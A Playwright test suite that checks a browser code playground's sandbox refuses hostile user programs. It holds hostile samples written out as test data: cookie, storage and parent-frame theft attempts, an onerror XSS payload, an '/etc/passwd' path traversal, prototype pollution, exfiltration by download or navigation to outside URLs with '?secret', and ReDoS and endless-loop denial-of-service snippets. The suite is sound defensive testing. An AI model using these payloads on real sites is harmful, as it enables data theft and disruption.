/* eslint max-lines: off -- one list of hostile programs, each beside what it may not do */
import {readFileSync} from 'node:fs';
import path from 'node:path';
import {deflateRawSync} from 'node:zlib';
import type {Page} from '@playwright/test';
import {open, test} from '../fixtures';
import {
  button,
  fault,
  frameOf,
  lines,
  linkTo,
  openLinked,
  PATH,
  player,
  runLinked,
  screen,
} from './linked';
import {expect} from './player';
import {listen, type Listeners} from './listener';

// Several pages in a row, and a program that ends only after ten seconds.
test.describe.configure({timeout: 120_000});
test.use({
  // The browser reports each attempt that it refuses.
  allowed: {errors: [/./], requests: [/^(?:http|ws):\/\/127\.0\.0\.1:/]},
});

/** A program that shows words, to see that the page still runs programs. */
const FINE = `import {Text} from 'react-native';
export default function App() { return <Text>All is well</Text>; }`;

/** The page answers, and runs another program. */
async function expectUsable(page: Page): Promise<void> {
  // It would run at a time that nobody chose.
  await player(page).getByRole('checkbox', {name: 'Run on change'}).uncheck();
  await page.getByRole('textbox', {name: 'Code of App.tsx'}).fill(FINE);
  const stop = button(page, 'Stop');
  // The program may end by itself between look and click.
  await expect(async () => {
    if (await stop.isVisible()) {
      await stop.click({timeout: 5_000});
    }
    await button(page, 'Run').click({timeout: 5_000});
  }).toPass();
  await expect(screen(page).getByText('All is well')).toBeVisible();
  await expect(fault(page)).toBeEmpty();
}

test('a program in the address waits for a click', async ({page}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await openLinked(page, "console.log('it ran');\nexport default () => null;");
  await expect(player(page).getByRole('note')).toContainText(
    'anyone can have written it',
  );
  await page.waitForLoadState('networkidle');
  expect(asked.filter((url) => url.includes('/player/'))).toEqual([]);
  await expect(page.locator('main iframe')).toHaveCount(0);
  await expect(lines(page)).toBeEmpty();

  await button(page, 'Run').click();
  await expect(lines(page)).toContainText('it ran');
});

test.describe('another host hears nothing', () => {
  const SOURCE = readFileSync(path.join(__dirname, 'hostile.js'), 'utf8');
  /** Chromium here does not follow such rules in the page without policy either. */
  const UNSHOWN = 'speculation-rules';

  type Table = 'staying' | 'leaving';

  function namesIn(table: Table): string[] {
    const [, text = ''] = SOURCE.split(`export const ${table} = {`);
    return [
      ...(text.split('\n};')[0] ?? '').matchAll(/^ {2}'?([\w-]+)'?: \(/gm),
    ].map(([, name = '']) => name);
  }

  const program = (table: Table, {origins}: Listeners): string => `${SOURCE}
attempt(${table}, ${JSON.stringify(origins)});
console.log('all tried');
export default function App() { return null; }`;

  /** Waits until the hosts have heard of a page of one of them, without any policy, that tries the ways. */
  async function hearAll(
    page: Page,
    table: Table,
    names: readonly string[],
  ): Promise<void> {
    const others = await listen(['start', ...names]);
    await page.goto(others.origins.start ?? '');
    await page.addScriptTag({type: 'module', content: program(table, others)});
    await expect
      .poll(() => names.filter((name) => !others.heard.has(name)))
      .toEqual([]);
    // The request is heard before the page has left; to close a page that is leaving may never end.
    await page.waitForTimeout(1_000);
    await page.close();
    await others.close();
  }

  test('of a page without policy it hears each way', async ({page}) => {
    const names = namesIn('staying').filter((name) => name !== UNSHOWN);
    expect(names.length).toBeGreaterThan(50);
    await hearAll(page, 'staying', names);
  });

  test('of a program, no way while it stays', async ({page}) => {
    const others = await listen(namesIn('staying'));
    await runLinked(page, program('staying', others));
    await expect(lines(page)).toContainText('all tried');
    // A worker begins after that; its refused import is the last to be told.
    await expect(fault(page)).toContainText('importScripts');
    await page.waitForTimeout(1_000);
    expect([...others.called]).toEqual([]);
    await expectUsable(page);
    await others.close();
  });

  for (const name of namesIn('leaving')) {
    test(`not by ${name}, and the page stays`, async ({page, context}) => {
      const others = await listen([name]);
      const pages = context.pages().length;
      await runLinked(page, program('leaving', others));
      await expect(
        lines(page)
          .getByText('all tried')
          .or(player(page).getByText('and was stopped'))
          .first(),
      ).toBeVisible();
      await page.waitForTimeout(1_000);
      expect([...others.called]).toEqual([]);
      expect(page.url()).toContain(PATH);
      expect(context.pages()).toHaveLength(pages);
      await expectUsable(page);
      await others.close();

      // Last: after a page that is closed while it leaves, the next navigation may hang.
      await hearAll(await context.newPage(), 'leaving', [name]);
    });
  }

  test('nor does Expo, which pages may frame, where a host sends no headers', async ({
    page,
    context,
  }) => {
    const asked: string[] = [];
    await context.route('**/player/**', async (route) => {
      const response = await route.fetch();
      const {'connection-allowlist': list, ...headers} = response.headers();
      asked.push(list ?? 'no list');
      await route.fulfill({response, headers});
    });
    await context.route('https://snack.expo.dev/**', (route) => {
      asked.push('Expo');
      return route.fulfill({body: ''});
    });
    await runLinked(
      page,
      `location.href = 'https://snack.expo.dev/?secret';
export default () => null;`,
    );
    await expect(player(page)).toContainText(
      'put another document in the place of its screen and was stopped',
    );
    expect(asked).toEqual(['()']);
    await expectUsable(page);
  });
});

test('a program has nothing of the site’s origin', async ({page}) => {
  await open(page, '');
  const found = await page.evaluate(async () => {
    document.cookie = 'secret=cookie; path=/';
    localStorage.setItem('secret', 'local');
    sessionStorage.setItem('secret', 'session');
    const cache = await caches.open('secret');
    await cache.put('/secret', new Response('cached'));
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open('secret', 1);
      request.onupgradeneeded = () =>
        request.result.createObjectStore('secret');
      request.onsuccess = () => resolve();
      request.onerror = () => reject(new Error('no database'));
    });
    return [
      document.cookie,
      localStorage.secret as string,
      (await caches.keys()).join(),
      (await indexedDB.databases()).map(({name}) => name).join(),
    ].join(' ');
  });
  for (const part of ['secret=cookie', 'local', 'secret']) {
    expect(found).toContain(part);
  }

  await runLinked(
    page,
    `const ways = {
  origin: () => self.origin,
  cookie: () => document.cookie,
  cookieStore: async () => JSON.stringify(await cookieStore.getAll()),
  local: () => localStorage.secret,
  session: () => sessionStorage.secret,
  database: async () => JSON.stringify(await indexedDB.databases()),
  open: () => indexedDB.open('secret'),
  cache: async () => JSON.stringify(await caches.keys()),
  folder: () => navigator.storage.getDirectory(),
  worker: () => navigator.serviceWorker.register('/sw.js'),
  shared: () => new SharedWorker('/shared.js'),
  channel: () => new Promise((resolve, reject) => {
    const channel = new BroadcastChannel('secret');
    channel.onmessage = ({data}) => resolve(data);
    setTimeout(() => reject(new Error('silence')), 1500);
  }),
  parent: () => parent.document.title,
  page: () => parent.parent.document.title,
  write: () => parent.document.write('words'),
  top: () => top.localStorage.secret,
  element: () => String(frameElement),
  opener: () => String(opener),
  store: () => { document.cookie = 'planted=1'; return document.cookie; },
};
async function tryAll() {
  for (const [name, act] of Object.entries(ways)) {
    try {
      console.log(name + ' gave ' + await act());
    } catch (error) {
      console.log(name + ' refused');
    }
  }
  console.log('all tried');
}
tryAll();
export default () => null;`,
  );
  await page.evaluate(() => {
    const channel = new BroadcastChannel('secret');
    setInterval(() => channel.postMessage('broadcast'), 100);
  });
  await expect(lines(page)).toContainText('all tried');
  const gave = (await lines(page).innerText())
    .split('\n')
    .filter((line) => line.includes(' gave '));
  expect(gave).toEqual([
    'origin gave null',
    'element gave null',
    'opener gave null',
  ]);
  expect(await page.evaluate(() => document.cookie)).not.toContain('planted');
});

test('a program moves no history, opens nothing, saves nothing', async ({
  page,
}) => {
  const opened: string[] = [];
  page.on('dialog', (dialog) => {
    opened.push(dialog.type());
    void dialog.dismiss();
  });
  page.on('download', () => opened.push('download'));
  await open(page, '');
  await runLinked(
    page,
    `const link = document.createElement('a');
link.href = URL.createObjectURL(new Blob(['words']));
link.download = 'words.txt';
document.body.append(link);
for (const act of [
  () => history.back(),
  () => history.go(-1),
  () => alert('words'),
  () => confirm('words'),
  () => prompt('words'),
  () => print(),
  () => link.click(),
  () => document.documentElement.requestFullscreen(),
]) {
  try { act(); } catch {}
}
setTimeout(() => { history.back(); console.log('all tried'); }, 500);
export default () => null;`,
  );
  await expect(lines(page)).toContainText('all tried');
  await page.waitForTimeout(1_000);
  expect(page.url()).toContain(PATH);
  expect(opened).toEqual([]);
  await expectUsable(page);
  // The way back was there.
  await page.goBack();
  expect(page.url()).not.toContain(PATH);
});

test('what a program sends is text, cut, and nothing more', async ({page}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await runLinked(
    page,
    `const session = location.hash.slice(1);
const send = (message) => top.postMessage({protocol: 'playtorch-player/1', session, ...message}, '*');
const html = '<img src="x" onerror="window.owned = 1"><script>window.owned = 1<' + '/script>';
console.log(html);
send({type: 'console', level: 'log', text: 'forged ' + html});
send({type: 'console', level: 'log', text: 'long ' + 'x'.repeat(1000000)});
send({type: 'console', level: 'dangerous', text: 'of no level'});
send({type: 'error', message: html, place: {file: '../../x', line: 'one'}});
send({type: 'ask', id: 101, service: 'file', args: {name: '../../../etc/passwd'}});
send({type: 'ask', id: 102, service: '__proto__', args: {}});
send({type: 'ask', id: 103, service: 'constructor', args: {}});
send({type: 'ask', id: 104, service: 'file', args: {name: 'x', more: 1}});
send({type: 'ask', id: -1, service: 'file', args: null});
send({type: 'run', project: {}});
send({type: 'answer', id: 101, value: 1});
top.postMessage({protocol: 'playtorch-player/1', session: 'another', type: 'console', level: 'log', text: 'of another session'}, '*');
top.postMessage(JSON.parse('{"__proto__": {"owned": 1}}'), '*');
top.postMessage('playtorch-player/1', '*');
addEventListener('message', ({data}) => {
  if (data.type === 'refusal') console.log('refused ' + data.id + ': ' + data.message);
  if (data.type === 'answer') console.log('answered ' + data.id);
});
import * as FileSystem from 'expo-file-system';
FileSystem.downloadAsync('https://example.com/?secret', FileSystem.cacheDirectory + 'x')
  .catch((error) => console.log('download: ' + error.message))
  .then(() => console.log('all tried'));
export default () => null;`,
  );
  await expect(lines(page)).toContainText('all tried');
  const said = await lines(page).innerText();
  expect(said).toContain('forged <img src="x" onerror="window.owned = 1">');
  expect(said).toContain('download: Programs in the page download nothing');
  expect(said).toContain(
    'refused 101: This page has no file ../../../etc/passwd',
  );
  expect(said).toContain(
    'refused 104: The program asked for file in a wrong way.',
  );
  for (const never of [
    'of no level',
    'of another session',
    'answered',
    'refused 102',
    'refused 103',
  ]) {
    expect(said).not.toContain(never);
  }
  expect(said.length).toBeLessThan(15_000);
  await expect(fault(page)).toContainText('<img src="x"');
  await expect(player(page).locator('img, script')).toHaveCount(0);
  expect(
    await page.evaluate(() => [
      (window as unknown as {owned?: unknown}).owned,
      ({} as {owned?: unknown}).owned,
    ]),
  ).toEqual([undefined, undefined]);
  expect(asked.filter((url) => url.includes('example.com'))).toEqual([]);
  await expectUsable(page);
});

for (const [name, message] of [
  [
    'of the protocol',
    "{protocol: 'playtorch-player/1', session: location.hash.slice(1), type: 'beat'}",
  ],
  ['of any kind', "'words'"],
] as const) {
  test(`a flood of messages ${name} ends the program, not the page`, async ({
    page,
  }) => {
    await runLinked(
      page,
      `setInterval(() => {
  for (let count = 0; count < 100000; count++) top.postMessage(${message}, '*');
}, 1);
export default () => null;`,
    );
    await expect(player(page)).toContainText(
      'sent more messages than a page can take and was stopped',
    );
    await expect(frameOf(page)).toHaveCount(0);
    await expectUsable(page);
  });
}

test.describe('a program without end', () => {
  /** Ended by the guard in each loop. */
  for (const [name, code] of [
    ['a loop as the program starts', 'while (true) {}'],
    ['a loop in a timer', 'setTimeout(() => { for (;;); }, 100);'],
    [
      'a loop of settled awaits',
      '(async () => { while (true) await null; })();',
    ],
    ['loops that catch', 'while (true) { try { while (true) {} } catch {} }'],
  ] as const) {
    test(`${name} is stopped with words`, async ({page}) => {
      await runLinked(page, `${code}\nexport default () => null;`);
      await expect(fault(page)).toContainText(
        'A loop kept the page busy for 10 seconds and was stopped.',
      );
      await expect(fault(page)).toContainText('App.tsx, line 1');
      await expectUsable(page);
    });
  }

  /** Nothing ends these but the page, which Chromium runs in another process. */
  for (const [name, code] of [
    [
      'microtasks that make microtasks',
      'const again = () => Promise.resolve().then(again);\nagain();',
    ],
    ['a pattern that never decides', "/^(a+)+$/.test('a'.repeat(60) + 'b');"],
    ['a loop that eval hides from the guard', "(0, eval)('while (true) {}');"],
  ] as const) {
    test(`${name}: Stop works`, async ({page, browser}) => {
      await runLinked(page, `${code}\nexport default () => null;`);
      await expect(player(page)).toContainText('The program is busy.');
      const session = await browser.newBrowserCDPSession();
      const {targetInfos} = await session.send('Target.getTargets');
      expect(
        targetInfos.filter(({type}) => type === 'iframe'),
        'the frame has a process of its own',
      ).toHaveLength(1);
      const processes = async (): Promise<number[]> =>
        (await session.send('SystemInfo.getProcessInfo')).processInfo
          .filter(({type}) => type === 'renderer')
          .map(({id}) => id);
      const before = await processes();
      await button(page, 'Stop').click();
      await expect(frameOf(page)).toHaveCount(0);
      await expectUsable(page);
      // The next frame has not been put into the stuck process, which would live on.
      await expect
        .poll(async () => {
          const after = await processes();
          return before.filter((id) => !after.includes(id));
        }, 'the stuck process has ended')
        .not.toEqual([]);
    });
  }

  test('a worker of the program ends with it', async ({page, browser}) => {
    await runLinked(
      page,
      `new Worker(URL.createObjectURL(new Blob(['while (true) {}'])));
console.log('begun');
export default () => null;`,
    );
    await expect(lines(page)).toContainText('begun');
    await button(page, 'Stop').click();
    await expect(frameOf(page)).toHaveCount(0);
    const session = await browser.newBrowserCDPSession();
    await expect
      .poll(async () =>
        (await session.send('Target.getTargets')).targetInfos
          .map(({type}) => type)
          .filter((type) => type === 'iframe' || type === 'worker'),
      )
      .toEqual([]);
    await expectUsable(page);
  });

  test('recursion ends by itself, with its place', async ({page}) => {
    await runLinked(
      page,
      `function again() { return 1 + again(); }
again();
export default () => null;`,
    );
    await expect(fault(page)).toContainText('App.tsx, line 1');
    await expect(fault(page)).toContainText('RangeError');
    await expectUsable(page);
  });
});

test.describe('a link that holds no program', () => {
  const link = (text: string): string =>
    `${PATH}#snack=1.${deflateRawSync(text).toString('base64url')}`;
  const whole = (files: string): string =>
    `{"version": "0.2.0", "entry": "App.tsx", "files": ${files}}`;

  for (const [name, address, words] of [
    ['no encoding', `${PATH}#snack=1.%%%`, 'The link holds no program'],
    ['nothing at all', `${PATH}#snack=1.`, 'The link holds no program'],
    ['no JSON', link('{'), 'The link holds no program'],
    [
      'cut',
      linkTo({'App.tsx': FINE}).slice(0, -20),
      'The link holds no program',
    ],
    [
      'a name of the prototype',
      link(whole('{"App.tsx": "", "__proto__": "x"}')),
      '"__proto__" is no file name',
    ],
    [
      'a prototype for files',
      link(whole('{"__proto__": {"App.tsx": "x"}}')),
      'no file name',
    ],
    [
      'a path out of the program',
      link(whole('{"App.tsx": "", "../x.ts": "x"}')),
      'no file name',
    ],
    [
      'a text that is none',
      link(whole('{"App.tsx": {"length": 1}}')),
      'App.tsx is no text',
    ],
    [
      'another version',
      link('{"version": "9", "entry": "App.tsx", "files": {"App.tsx": ""}}'),
      'version is none of',
    ],
    [
      'a gigabyte of the same letter',
      link('a'.repeat(10_000_000)),
      'too large',
    ],
    [
      'more than a link carries',
      `${PATH}#snack=1.${'a'.repeat(20_000)}`,
      'too long',
    ],
  ] as const) {
    test(`${name}: words, and the page’s own program runs`, async ({page}) => {
      await open(page, address);
      await expect(player(page).getByRole('note')).toContainText(words);
      await expect(frameOf(page)).toHaveCount(0);
      expect(
        await page.evaluate(() => (({}) as {'App.tsx'?: unknown})['App.tsx']),
      ).toBeUndefined();
      await button(page, 'Run').click();
      await expect(screen(page).getByRole('button').first()).toBeVisible();
    });
  }
});
